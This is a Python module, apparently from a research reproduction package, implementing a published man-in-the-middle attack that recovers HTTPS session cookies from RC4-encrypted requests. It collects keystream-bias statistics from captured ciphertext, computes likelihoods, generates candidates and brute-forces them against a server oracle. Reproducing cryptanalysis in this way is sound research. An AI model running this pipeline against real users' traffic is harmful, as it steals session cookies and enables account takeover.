"""The end-to-end HTTPS cookie-recovery attack (paper §6).

Pipeline:

1. **Layout** (§6.1): the MiTM manipulation fixes the cookie's keystream
   position and surrounds it with known plaintext
   (:class:`CookieLayout` captures the result).
2. **Statistics** (§6.3): from each captured encrypted request, collect
   (a) digraph counts at every position pair overlapping the cookie and
   (b) ABSAB differential counts against known digraphs before and after
   the cookie, for every usable gap up to 128.
3. **Likelihoods** (§4.1-§4.3): per position pair, combine the
   Fluhrer–McGrew likelihood (sparse eq 15) with one ABSAB likelihood
   per gap (eq 24) by summation in log domain (eq 25).
4. **Candidates** (§4.4, §6.2): run Algorithm 2 restricted to the
   RFC 6265 cookie alphabet, producing candidates in decreasing
   likelihood.
5. **Brute force** (§6.2): walk the list against the server oracle.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..biases.fluhrer_mcgrew import fm_biased_cells, position_to_counter
from ..biases.mantin_absab import MAX_GAP, absab_alpha, usable_gaps
from ..core.candidates.matrix import CandidateMatrix
from ..core.candidates.viterbi import algorithm2
from ..core.likelihood.digraph import digraph_log_likelihoods
from ..datasets.store import ArchivedStatistics
from ..errors import AttackError
from ..rc4 import _native
from .bruteforce import BruteForceOracle, CandidatePruner
from .connection import RecordSniffer
from .cookies import COOKIE_CHARSET
from .http import HttpRequestTemplate

#: Most requests one statistics object with uint32 counters holds.  A
#: request adds at most one to a cell, so no cell can wrap below it; the
#: paper's 9·2^27 requests fit with room to spare.
MAX_CAPTURE_REQUESTS = 2**32 - 1


@dataclass(frozen=True)
class CookieLayout:
    """Where the unknown cookie sits inside the known request plaintext.

    Attributes:
        prefix: known plaintext before the cookie value.
        suffix: known plaintext after the cookie value.
        cookie_len: number of unknown bytes.
        base_offset: 1-indexed keystream position of the first request
            byte (1 for a fresh connection).
    """

    prefix: bytes
    suffix: bytes
    cookie_len: int
    base_offset: int = 1

    @classmethod
    def from_template(
        cls, template: HttpRequestTemplate, cookie_len: int, *, base_offset: int = 1
    ) -> "CookieLayout":
        return cls(
            prefix=template.prefix(),
            suffix=template.suffix(),
            cookie_len=cookie_len,
            base_offset=base_offset,
        )

    @property
    def request_len(self) -> int:
        return len(self.prefix) + self.cookie_len + len(self.suffix)

    @property
    def cookie_span(self) -> tuple[int, int]:
        """Inclusive 1-indexed keystream span of the unknown bytes."""
        start = self.base_offset + len(self.prefix)
        return start, start + self.cookie_len - 1

    @property
    def stream_len(self) -> int:
        """Last keystream position covered by the request."""
        return self.base_offset + self.request_len - 1

    def known_byte(self, position: int) -> int:
        """The known plaintext byte at a keystream position.

        Raises:
            AttackError: if the position is inside the unknown span or
                outside the request.
        """
        start, end = self.cookie_span
        if start <= position <= end:
            raise AttackError(f"position {position} is unknown (cookie byte)")
        index = position - self.base_offset
        if index < 0 or index >= self.request_len:
            raise AttackError(f"position {position} outside the request")
        if position < start:
            return self.prefix[index]
        return self.suffix[index - len(self.prefix) - self.cookie_len]

    def transitions(self) -> list[int]:
        """First positions r of the digraphs (r, r+1) Algorithm 2 needs:
        from (last prefix byte, first cookie byte) through (last cookie
        byte, first suffix byte)."""
        start, end = self.cookie_span
        if start <= self.base_offset:
            raise AttackError("cookie must not start at the first keystream byte")
        return list(range(start - 1, end + 1))

    def to_meta(self) -> dict:
        """The layout as JSON-safe fields (descriptors, NPZ metadata)."""
        return {
            "prefix": self.prefix.decode("latin-1"),
            "suffix": self.suffix.decode("latin-1"),
            "cookie_len": self.cookie_len,
            "base_offset": self.base_offset,
        }

    @classmethod
    def from_meta(cls, fields: dict) -> "CookieLayout":
        """The layout :meth:`to_meta` recorded."""
        return cls(
            prefix=fields["prefix"].encode("latin-1"),
            suffix=fields["suffix"].encode("latin-1"),
            cookie_len=int(fields["cookie_len"]),
            base_offset=int(fields["base_offset"]),
        )


@dataclass
class CookieStatistics(ArchivedStatistics):
    """Sufficient statistics for the §6 attack.

    Implements the :class:`repro.capture.SufficientStatistics` protocol:
    snapshots, exact :meth:`merge` (so captures shard across processes),
    canonical-JSON summaries, and NPZ persistence (so captures
    checkpoint and resume across sessions: :meth:`save`/:meth:`load`
    of the arrays and metadata of :meth:`archive`, which a
    :class:`repro.capture.VictimSet` stores once per victim).

    Capture counters are uint32 (:meth:`empty`, and :meth:`load` of any
    archive that fits): such an object holds at most
    :data:`MAX_CAPTURE_REQUESTS` requests, and ingestion and
    :meth:`merge` raise before passing that.  The sampled statistics of
    :mod:`repro.simulate` keep int64 counters for up to 2^63 - 1
    requests.  The likelihoods read either through exact float64
    conversions, so their bits do not depend on the dtype.

    Attributes:
        layout: the request layout these counts belong to.
        fm_counts: (num_transitions, 256, 256) ciphertext digraph
            counts; row t is the digraph at transitions()[t].
        absab_counts: maps (transition_index, gap, side) -> 65536-entry
            vector of ciphertext differential counts, each a row view
            into ``absab_matrix``, so per-request code keeps the dict
            API.
        absab_matrix: the one ABSAB counter store, (num_alignments,
            65536) of the same dtype as ``fm_counts``, which the
            batched capture engine and the merge/persistence paths
            operate on.
        num_requests: requests accumulated.
        max_gap: ABSAB gap cap the alignment set was built with.
    """

    #: The ``statistics_kind`` of this type's checkpoints.
    KIND = "cookie-statistics"

    layout: CookieLayout
    fm_counts: np.ndarray
    absab_counts: dict[tuple[int, int, str], np.ndarray]
    absab_matrix: np.ndarray
    num_requests: int = 0
    max_gap: int = MAX_GAP

    @classmethod
    def empty(
        cls, layout: CookieLayout, *, max_gap: int = MAX_GAP
    ) -> "CookieStatistics":
        alignments = len(cls.alignment_keys(layout, max_gap=max_gap))
        return cls.from_counters(
            layout,
            np.zeros((len(layout.transitions()), 256, 256), dtype=np.uint32),
            np.zeros((alignments, 65536), dtype=np.uint32),
            max_gap=max_gap,
        )

    @classmethod
    def from_counters(
        cls,
        layout: CookieLayout,
        fm_counts: np.ndarray,
        absab_matrix: np.ndarray,
        *,
        max_gap: int = MAX_GAP,
        num_requests: int = 0,
    ) -> "CookieStatistics":
        """Statistics backed by the given counter arrays, uncopied.

        Two uint32 arrays stay uint32; any other integer arrays become
        int64.  ``absab_counts`` becomes row views into ``absab_matrix``,
        so a loaded checkpoint resumes at 1x its counter memory.

        Raises:
            AttackError: if a counter's shape does not match the layout.
        """
        keys = cls.alignment_keys(layout, max_gap=max_gap)
        fm_shape = (len(layout.transitions()), 256, 256)
        if fm_counts.shape != fm_shape:
            raise AttackError(
                f"fm_counts shape {fm_counts.shape} != expected {fm_shape}"
            )
        if absab_matrix.shape != (len(keys), 65536):
            raise AttackError(
                f"absab_matrix shape {absab_matrix.shape} != expected "
                f"{(len(keys), 65536)}"
            )
        # Anything but two uint32 arrays converts as adding it into int64
        # zeros would: integer counters convert, float ones raise.
        dtype = (
            np.uint32
            if fm_counts.dtype == absab_matrix.dtype == np.uint32
            else np.int64
        )
        fm_counts, absab_matrix = (
            np.ascontiguousarray(
                array.astype(dtype, casting="same_kind", copy=False)
            )
            for array in (fm_counts, absab_matrix)
        )
        return cls(
            layout=layout,
            fm_counts=fm_counts,
            absab_counts={key: absab_matrix[row] for row, key in enumerate(keys)},
            num_requests=num_requests,
            max_gap=max_gap,
            absab_matrix=absab_matrix,
        )

    @staticmethod
    def alignment_keys(
        layout: CookieLayout, *, max_gap: int = MAX_GAP
    ) -> list[tuple[int, int, str]]:
        """Deterministic (transition, gap, side) order of the ABSAB rows."""
        keys: list[tuple[int, int, str]] = []
        span = layout.cookie_span
        for t, r in enumerate(layout.transitions()):
            for gap, side in usable_gaps(
                r, span, layout.stream_len, max_gap=max_gap
            ):
                keys.append((t, gap, side))
        return keys

    def snapshot(self) -> "CookieStatistics":
        """Independent deep copy with the same counter dtype
        (checkpointing / shard seeds)."""
        return CookieStatistics.from_counters(
            self.layout,
            self.fm_counts.copy(),
            self.absab_matrix.copy(),
            max_gap=self.max_gap,
            num_requests=self.num_requests,
        )

    def check_room(self, requests: int) -> None:
        """Raise before ``requests`` more would overfill the counters.

        Raises:
            AttackError: if ``num_requests + requests`` passes what the
                counter dtype holds (:data:`MAX_CAPTURE_REQUESTS` for
                uint32).
        """
        limit = int(np.iinfo(self.fm_counts.dtype).max)
        if self.num_requests + requests > limit:
            raise AttackError(
                f"{self.num_requests} + {requests} requests exceed the "
                f"{limit} that {self.fm_counts.dtype} counters hold"
            )

    def check_merge(self, other: "CookieStatistics") -> None:
        """Every check :meth:`merge` makes before it changes a counter.

        Raises:
            AttackError: on another layout or alignment set, or if the
                merged requests would pass the request bound.
        """
        if self.layout != other.layout or self.max_gap != other.max_gap:
            raise AttackError("cannot merge statistics of different layouts")
        if list(self.absab_counts) != list(other.absab_counts):
            raise AttackError("cannot merge statistics with different alignments")
        self.check_room(other.num_requests)

    def merge(self, other: "CookieStatistics") -> "CookieStatistics":
        """Exact merge of shard counts into ``self`` (in place).

        Associative and commutative — shards captured by independent
        processes combine to the same counters in any order.  ``self``
        keeps its counter dtype, and :meth:`check_merge` runs before
        any counter changes.
        """
        self.check_merge(other)
        # No cell exceeds its object's requests, so within the bound the
        # cast into a narrower dtype cannot wrap.
        np.add(self.fm_counts, other.fm_counts, out=self.fm_counts,
               casting="unsafe")
        np.add(self.absab_matrix, other.absab_matrix, out=self.absab_matrix,
               casting="unsafe")
        self.num_requests += other.num_requests
        return self

    def to_jsonable(self) -> dict:
        """Canonical-JSON-ready summary (counters stay in NPZ files)."""
        return {
            "type": self.KIND,
            "num_requests": int(self.num_requests),
            "max_gap": int(self.max_gap),
            "layout": {
                "prefix_len": len(self.layout.prefix),
                "suffix_len": len(self.layout.suffix),
                "cookie_len": self.layout.cookie_len,
                "base_offset": self.layout.base_offset,
            },
            "fm_transitions": int(self.fm_counts.shape[0]),
            "fm_total": int(self.fm_counts.sum()),
            "absab_alignments": len(self.absab_counts),
            "absab_total": int(
                sum(int(c.sum()) for c in self.absab_counts.values())
            ),
        }

    def archive(self) -> tuple[dict[str, np.ndarray], dict]:
        """The counters (uncopied) and the metadata :meth:`save` writes."""
        arrays = {"fm_counts": self.fm_counts, "absab_matrix": self.absab_matrix}
        meta = {
            "layout": self.layout.to_meta(),
            "max_gap": self.max_gap,
            "num_requests": self.num_requests,
        }
        return arrays, meta

    @classmethod
    def from_archive(cls, arrays: dict, meta: dict) -> "CookieStatistics":
        """Statistics from :meth:`archive`'s arrays and metadata.

        int64 counters of at most :data:`MAX_CAPTURE_REQUESTS` requests,
        as older checkpoints hold, come back narrowed to uint32.

        Raises:
            AttackError: if a counter's shape does not match the layout.
        """
        num_requests = meta["num_requests"]
        return cls.from_counters(
            CookieLayout.from_meta(meta["layout"]),
            capture_counters(arrays["fm_counts"], num_requests),
            capture_counters(arrays["absab_matrix"], num_requests),
            max_gap=meta["max_gap"],
            num_requests=num_requests,
        )

    def ingest_fragment(self, fragment: bytes, offset: int = 1) -> None:
        """Update counts from one encrypted request fragment.

        On a persistent connection successive requests start deeper in
        the keystream; the attacker pads records to a multiple of 256
        (the paper's 512-byte requests, §6.3) so every request sees the
        same PRGA counter values.  Accordingly any offset congruent to
        the layout's base modulo 256 is accepted — the Fluhrer–McGrew
        model depends only on r mod 256 and ABSAB is position-free.

        Args:
            fragment: the RC4-encrypted record fragment (ciphertext).
            offset: keystream position of the fragment's first byte.
        """
        layout = self.layout
        if (offset - layout.base_offset) % 256 != 0:
            raise AttackError(
                f"fragment offset {offset} incompatible with layout base "
                f"{layout.base_offset} modulo 256 — add request padding"
            )
        if len(fragment) < layout.request_len:
            raise AttackError("fragment shorter than the request layout")
        self.check_room(1)

        def cbyte(position: int) -> int:
            return fragment[position - layout.base_offset]

        transitions = layout.transitions()
        for t, r in enumerate(transitions):
            self.fm_counts[t, cbyte(r), cbyte(r + 1)] += 1
        for (t, gap, side), counts in self.absab_counts.items():
            r = transitions[t]
            if side == "after":
                p1, p2 = r + 2 + gap, r + 3 + gap
            else:
                p1, p2 = r - 2 - gap, r - 1 - gap
            d1 = cbyte(r) ^ cbyte(p1)
            d2 = cbyte(r + 1) ^ cbyte(p2)
            counts[(d1 << 8) | d2] += 1
        self.num_requests += 1

    def ingest_sniffer(self, sniffer: RecordSniffer) -> None:
        """Ingest every fragment a passive observer collected."""
        for fragment, offset in zip(sniffer.fragments, sniffer.offsets):
            self.ingest_fragment(fragment, offset)


def capture_counters(counters: np.ndarray, num_requests: int) -> np.ndarray:
    """Loaded counters as uint32 when ``num_requests`` fits the bound.

    Capture archives written before the counters became uint32 hold
    int64 cells; narrowing them is exact below
    :data:`MAX_CAPTURE_REQUESTS`, so older checkpoints resume into the
    uint32 counting kernel.  Anything else is returned unchanged.
    """
    if counters.dtype == np.int64 and num_requests <= MAX_CAPTURE_REQUESTS:
        return counters.astype(np.uint32)
    return counters


#: Flat differential index (mu1 << 8) | mu2 of every (mu1, mu2) cell;
#: XORing it with a known-pair key gives eq 24's gather index directly.
_BASE_IDX = (
    (np.arange(256, dtype=np.intp)[:, None] << 8)
    | np.arange(256, dtype=np.intp)[None, :]
).reshape(-1)


def transition_log_likelihoods(stats: CookieStatistics) -> np.ndarray:
    """Combined FM + ABSAB log-likelihoods per transition (§4.3, eq 25).

    Each transition's row starts from its sparse FM estimate (eq 15)
    and adds, in alignment-key order, the eq 22 vector ``counts * coef
    + offset`` of each of its alignments, gathered into eq 24's (mu1,
    mu2) layout via the XOR identity ``((mu1^k1)<<8) | (mu2^k2) ==
    ((mu1<<8)|mu2) ^ ((k1<<8)|k2)``.  The weights (``log p``, ``log u``,
    ``coef``, ``offset``) are computed here in numpy; the sums run in
    one fused native kernel (:func:`repro.rc4._native.transition_loglik`)
    or, under ``REPRO_NATIVE=0``, in numpy, one reused 65536-entry
    buffer per alignment.  Both read the counter rows in place
    (``absab_counts`` views), so memory is the output plus a few
    65536-entry rows whatever the number of alignments, and both
    repeat the per-element operations and the eq 25 accumulation order
    of the per-alignment reference (:func:`absab_log_likelihoods` +
    :func:`combine_likelihoods`) bit for bit.

    Returns:
        float64 (num_transitions, 256, 256) ready for Algorithm 2.
    """
    layout = stats.layout
    transitions = layout.transitions()
    total = float(stats.num_requests)
    if total <= 0:
        raise AttackError("no requests ingested")

    # Eq 22's per-gap scalars, computed exactly as the scalar reference
    # does, so the multiply-add reproduces its vectors bitwise.
    gap_scalars: dict[int, tuple[float, float]] = {}
    # Per transition, in alignment-key order: (counts, key, coef, offset).
    terms: list[list[tuple[np.ndarray, int, float, float]]] = [
        [] for _ in transitions
    ]
    for (t, gap, side), counts in stats.absab_counts.items():
        if gap not in gap_scalars:
            alpha = absab_alpha(gap)
            log_alpha = np.log(alpha)
            log_u = np.log((1.0 - alpha) / (65536 - 1))
            gap_scalars[gap] = (log_alpha - log_u, total * log_u)
        r = transitions[t]
        partner = r + 2 + gap if side == "after" else r - 2 - gap
        key = (layout.known_byte(partner) << 8) | layout.known_byte(partner + 1)
        terms[t].append((counts, key, *gap_scalars[gap]))
    fm_cells = []
    for r in transitions:
        cells = fm_biased_cells(position_to_counter(r))
        mass = sum(p for _, p in cells)
        fm_cells.append((cells, (1.0 - mass) / (65536 - len(cells))))

    if _native.available():
        # Eq 15's weights as digraph_log_likelihoods takes them.
        weights = [
            ([(k1 << 8) | k2 for (k1, k2), _ in cells],
             [np.log(p) for _, p in cells], np.log(uniform_p))
            for cells, uniform_p in fm_cells
        ]
        fm_rows = [stats.fm_counts[t].reshape(-1) for t in range(len(terms))]
        loglik = _native.transition_loglik(fm_rows, weights, total, terms)
        return loglik.reshape(len(transitions), 256, 256)

    lam_hat = np.empty(65536, dtype=np.float64)
    index = np.empty(65536, dtype=np.intp)
    gathered = np.empty((256, 256), dtype=np.float64)
    loglik = np.empty((len(transitions), 256, 256), dtype=np.float64)
    for t, (cells, uniform_p) in enumerate(fm_cells):
        loglik[t] = digraph_log_likelihoods(
            stats.fm_counts[t], cells, uniform_p, total
        )
        for counts, key, coef, offset in terms[t]:
            np.multiply(counts, coef, out=lam_hat)
            lam_hat += offset
            np.bitwise_xor(_BASE_IDX, key, out=index)
            np.take(lam_hat, index, out=gathered.reshape(-1))
            loglik[t] += gathered
    return loglik


def recover_candidates(
    stats: CookieStatistics,
    num_candidates: int,
    *,
    charset: bytes = COOKIE_CHARSET,
) -> CandidateMatrix:
    """Likelihoods -> Algorithm 2 candidate matrix over the cookie alphabet."""
    layout = stats.layout
    loglik = transition_log_likelihoods(stats)
    start, end = layout.cookie_span
    first = layout.known_byte(start - 1)
    last = layout.known_byte(end + 1)
    return algorithm2(loglik, first, last, num_candidates, charset=charset)


@dataclass(frozen=True)
class CookieAttackResult:
    """Outcome of the full §6 pipeline.

    ``pruned`` counts the candidates the layout-aware pruner dropped
    before they reached the server oracle (0 when no pruner ran or the
    generation alphabet already matched the layout's).
    """

    cookie: bytes
    rank: int
    attempts: int
    num_requests: int
    pruned: int = 0


def run_attack(
    stats: CookieStatistics,
    oracle: BruteForceOracle,
    *,
    num_candidates: int = 1 << 23,
    charset: bytes = COOKIE_CHARSET,
    pruner: CandidatePruner | None = None,
) -> CookieAttackResult:
    """Candidate generation plus brute force against the server oracle.

    Args:
        stats: sufficient statistics of the captured requests.
        oracle: the server accepting exactly one cookie value.
        num_candidates: Algorithm 2 list size.
        charset: alphabet Algorithm 2 enumerates over (§6.2).
        pruner: optional layout-aware filter applied between candidate
            generation and the oracle — used when the layout metadata
            declares a tighter alphabet than ``charset``.
    """
    candidates = recover_candidates(stats, num_candidates, charset=charset)
    cookie, attempts, rank = oracle.search_matrix(candidates.matrix, pruner=pruner)
    return CookieAttackResult(
        cookie=cookie,
        rank=rank,
        attempts=attempts,
        num_requests=stats.num_requests,
        pruned=pruner.pruned if pruner is not None else 0,
    )
